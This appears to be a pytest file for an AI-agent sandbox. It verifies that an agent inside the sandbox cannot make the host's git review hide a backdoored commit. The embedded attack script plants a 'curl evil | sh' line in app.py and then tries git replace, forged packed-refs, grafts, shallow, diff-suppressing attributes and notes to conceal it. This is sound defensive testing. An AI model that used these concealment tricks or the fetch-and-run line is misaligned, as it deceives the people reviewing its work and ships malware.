"""What the host's Git shows must be what it pushes (docs/security-git.md).

From inside the sandbox (the real Debian image, its own git, as root) the
agent commits a backdoor on `feature`, a harmless change elsewhere, and
tries every way to make the host's git display the harmless one: `git
replace`, a replace line in packed-refs, info/grafts, shallow,
info/attributes (`*.py -diff`), notes, a commit-graph. Then the host's real
git reviews it (`git log -p`, `git show`, `git diff main feature`), pushes
it to a bare repository the test makes on the host, and checks it out.

The positive control runs the same script with the host's bash and git on
a plain copy of the workspace (no router): there every attack lands, the
review hides the backdoor, and the push sends it.
"""
import shutil
import subprocess
import textwrap

import pytest

from conftest import git_env, lz_run, make_git_repo

pytestmark = pytest.mark.slow

ATTACK = r"""
set -u
export GIT_AUTHOR_NAME=Agent GIT_AUTHOR_EMAIL=a@x.invalid GIT_COMMITTER_NAME=Agent GIT_COMMITTER_EMAIL=a@x.invalid
git config --global --add safe.directory '*'
cd "$WS" || exit 9
git checkout -qb feature main && echo 'import os; os.system("curl evil | sh")  # BACKDOOR' >> app.py &&
    git commit -qam 'feature: tidy' && BAD=$(git rev-parse HEAD) || exit 8
git checkout -qb clean main && echo harmless >> README && git commit -qam docs && CLEAN=$(git rev-parse HEAD) || exit 7
git checkout -q main && git branch -qD clean
attack() {
    local name=$1
    shift
    if "$@" >/dev/null 2>&1; then echo "PLANTED $name"; else echo "REFUSED $name"; fi
}
echo "REPLACE-SAYS: $(git replace "$BAD" "$CLEAN" 2>&1 | tail -n1)"
attack replace test -n "$(git replace -l)"
attack packed-refs sh -c "{ grep -v '^#' .git/packed-refs 2>/dev/null; echo '$CLEAN refs/replace/$BAD'; } > .git/packed-refs.lock && mv .git/packed-refs.lock .git/packed-refs"
rm -f .git/packed-refs.lock
attack grafts sh -c "echo $BAD > .git/info/grafts"
attack shallow sh -c "echo $BAD > .git/shallow"
attack attributes sh -c "echo '*.py -diff' > .git/info/attributes"
attack notes git notes add -m NOTE-SENTINEL "$BAD"
attack commit-graph sh -c 'git commit-graph write --reachable && test -s .git/objects/info/commit-graph'
# Everyday work keeps working.
git checkout -q feature && echo more >> README && git commit -qam 'feature: more' && git checkout -q main && echo COMMIT-OK
git gc -q && echo GC-OK
git clone -q --depth 1 "file://$WS" scratch/clone && test -s scratch/clone/.git/shallow &&
    test "$(git -C scratch/clone rev-list --count HEAD)" = 1 && echo CLONE-OK
git init -q --bare scratch/remote.git && git push -q scratch/remote.git main feature &&
    git fetch -q scratch/remote.git feature && echo FETCH-OK
"""

NAMES = ["replace", "packed-refs", "grafts", "shallow", "attributes", "notes", "commit-graph"]


def host_git(ws, *args, home="/nonexistent"):
    return subprocess.run(["git", "-C", str(ws), *args], env=git_env(HOME=str(home)), capture_output=True,
                          text=True, timeout=60)


def review(ws):
    """What the developer's review shows, per check: True when the host's
    git displays what the objects say."""
    log_p = host_git(ws, "log", "-p", "feature").stdout
    return {
        "log -p": "BACKDOOR" in log_p,
        "show": "BACKDOOR" in host_git(ws, "show", "feature~1").stdout,
        "diff": "BACKDOOR" in host_git(ws, "diff", "main", "feature").stdout,
        "history": "initial" in host_git(ws, "log", "--format=%s", "feature").stdout,
        "no note": "NOTE-SENTINEL" not in host_git(ws, "log", "feature").stdout,
    }


def push_and_checkout(ws, remote):
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True, env=git_env())
    p = host_git(ws, "push", "-q", str(remote), "feature")
    pushed = host_git(remote, "show", "feature~1:app.py").stdout
    host_git(ws, "checkout", "-q", "feature~1")
    written = (ws / "app.py").read_text()
    host_git(ws, "checkout", "-q", "main")
    return p.returncode, "BACKDOOR" in pushed, "BACKDOOR" in written


@pytest.fixture
def repo(tmp_path):
    ws = make_git_repo(tmp_path / "ws")
    (ws / "app.py").write_text("print('hello')\n")
    (ws / ".gitignore").write_text("scratch/\n")
    subprocess.run(["git", "-C", str(ws), "add", "-A"], check=True, env=git_env())
    subprocess.run(["git", "-C", str(ws), "commit", "-qm", "app"], check=True, env=git_env())
    subprocess.run(["git", "-C", str(ws), "pack-refs", "--all"], check=True, env=git_env())
    return ws


def test_host_review_shows_what_push_sends(lazaret, debian, repo, tmp_path):
    ctl = tmp_path / "ctl"
    shutil.copytree(repo, ctl, symlinks=True)

    r = lz_run(lazaret, debian, repo, ["bash", "-c", "WS=/workspace\n" + ATTACK], timeout=300)
    out, err = r.stdout.decode(), r.stderr.decode(errors="replace")
    for n in NAMES:
        assert f"REFUSED {n}" in out, out + err
    # git replace fails cleanly inside.
    assert "REPLACE-SAYS: error: cannot lock ref 'refs/replace/" in out, out
    for ok in ("COMMIT-OK", "GC-OK", "CLONE-OK", "FETCH-OK"):
        assert ok in out, out + err
    # The host's review shows the backdoor, the push sends what was shown,
    # and the checkout writes it.
    assert review(repo) == {k: True for k in ("log -p", "show", "diff", "history", "no note")}
    rc, pushed, written = push_and_checkout(repo, tmp_path / "remote.git")
    assert rc == 0 and pushed and written
    assert host_git(repo, "fsck", "--no-progress").returncode == 0
    # The clone the sandbox made stays in its ignored state, not on the host.
    assert not (repo / "scratch").exists()

    # Positive control: the same script on a plain copy, with the host's
    # git (nothing in between), lands every attack and fools the review.
    home = tmp_path / "ctl-home"
    home.mkdir()
    c = subprocess.run(["bash", "-c", f"WS={ctl}\n" + ATTACK], env=git_env(HOME=str(home)), capture_output=True,
                       text=True, timeout=300)
    # (git itself writes no commit-graph into a repository with replace
    # refs, grafts or shallow; the router e2e forges one in a clean one.)
    for n in NAMES[:-1]:
        assert f"PLANTED {n}" in c.stdout, c.stdout + c.stderr
    seen = review(ctl)
    assert not any(seen.values()), seen
    rc, pushed, written = push_and_checkout(ctl, tmp_path / "ctl-remote.git")
    assert not written  # the checkout wrote the replacement
    assert rc != 0 or pushed  # and a push (shallow and grafts may fail it) sends the backdoor


def test_display_files_present_at_start_are_reported(lazaret, env, tmp_path):
    """A replace ref, grafts and info/attributes the developer made: the
    Domain starts, and one notice says they change what git displays (on the
    terminal once, and in `lazaret config check`)."""
    ws = make_git_repo(tmp_path / "ws")
    subprocess.run(["git", "-C", str(ws), "commit", "-q", "--allow-empty", "-m", "two"], check=True, env=git_env())
    assert host_git(ws, "replace", "HEAD", "HEAD~1").returncode == 0
    (ws / ".git" / "info" / "attributes").write_text("*.py -diff\n")
    (ws / ".git" / "info" / "grafts").write_text(host_git(ws, "rev-parse", "HEAD~1").stdout)
    # Control: the host's git does display the replacement.
    assert host_git(ws, "log", "-1", "--format=%s").stdout.strip() == "initial"
    r = lz_run(lazaret, env, ws, ["sh", "-c", "echo started"])
    err = r.stderr.decode(errors="replace")
    assert r.returncode == 0 and "started" in r.stdout.decode(), err
    line = "1 replace ref in refs/replace/, info/grafts, info/attributes change what the host's git"
    assert err.count(line) == 1, err
    c = subprocess.run([lazaret, "config", "check", "-p", "test"], cwd=ws, env=env.environ(), capture_output=True,
                       text=True, timeout=60)
    assert c.returncode == 0, c.stderr
    assert "NOTICE: .git: " + line in c.stdout, c.stdout
    # Inside, they are read-only.
    r = lz_run(lazaret, env, ws, ["sh", "-c", textwrap.dedent("""
        cd /workspace/.git
        for f in info/attributes info/grafts refs/replace/$(ls refs/replace); do
            if echo x >> "$f" 2>/dev/null; then echo "W $f"; else echo "R $f"; fi
        done
        if rm -f refs/replace/* 2>/dev/null; then echo "W rm"; else echo "R rm"; fi
        if echo x >> description 2>/dev/null; then echo "W description"; fi
    """)])
    out = r.stdout.decode()
    assert "W info" not in out and "W refs" not in out and "W rm" not in out, out
    assert out.count("R ") == 4 and "W description" in out, out
